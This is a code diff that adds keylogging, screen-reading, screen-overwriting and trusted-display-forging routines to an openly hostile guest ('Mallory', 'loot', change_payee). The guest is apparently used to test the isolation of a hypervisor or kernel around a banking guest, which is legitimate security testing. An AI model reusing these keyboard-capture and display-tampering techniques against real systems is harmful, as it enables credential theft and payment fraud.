@@ -8,6 +8,9 @@
 
 #define WINDOW 0x80000000u /* linear, where nothing else is */
 #define EVIL "Mallory"
+#define LOOKS 400 /* at the keyboard */
+#define ROW_OF_PAYEE (PHYSICAL_SCREEN + 7 * 2 * VGA_COLUMNS)
+#define PAYEE_COLUMN 12
 #define TURNS 8 /* until the user is asked */
 
 u8 loot[BANK_LOOT_SIZE] ALIGNED(4096);
@@ -87,10 +90,42 @@ static void attest_foreign(const u8 *answer)
 
 static void change_payee(u8 *message) { memcpy(((struct bank_message *)message)->payee, EVIL, sizeof EVIL); }
 
+/* Keyboard and screen: what is typed and shown for the guest in front. */
+
+static void log_keys(void)
+{
+    u32 count = 0;
+    for (u32 n = 0; n < LOOKS && count < sizeof loot; n++) {
+        if (in8(PORT_KBC_STATUS) & KBC_STATUS_OUTPUT_FULL)
+            loot[count++] = in8(PORT_KBC_DATA);
+        else
+            hypercall(HYPERCALL_YIELD, 0, 0, 0);
+    }
+}
+
+static void read_screen(void) { memcpy(loot, (const void *)ROW_OF_PAYEE, 2 * VGA_COLUMNS); }
+
+static void show(volatile u16 *cells, const char *text, u16 colours)
+{
+    for (; *text; text++)
+        *cells++ = (u16)(colours | (u8)*text);
+}
+
+static void write_screen(void) { show((volatile u16 *)ROW_OF_PAYEE + PAYEE_COLUMN, EVIL " ", 0x0F00); }
+
+static void write_line(u32 line) { show((volatile u16 *)line, "2 bank", 0x1F00); }
+
+static void forge_line(void)
+{
+    map_page(kernel_directory, WINDOW, PHYSICAL_TRUSTED_LINE, PTE_PRESENT | PTE_WRITE | PTE_UNCACHED);
+    guarded(write_line, WINDOW);
+}
+
 static const struct {
     const char *name;
     void (*act)(void);
 } acts[] = {
+    {"log_keys", log_keys}, {"read_screen", read_screen}, {"write_screen", write_screen}, {"forge_line", forge_line},
     {"map_read", map_read}, {"map_write", map_write}, {"dma_read", dma_read}, {"dma_write", dma_write}, {"send_foreign", send_foreign},
     {"unseal_foreign", unseal_foreign}, {"seal_foreign", seal_foreign},
 };
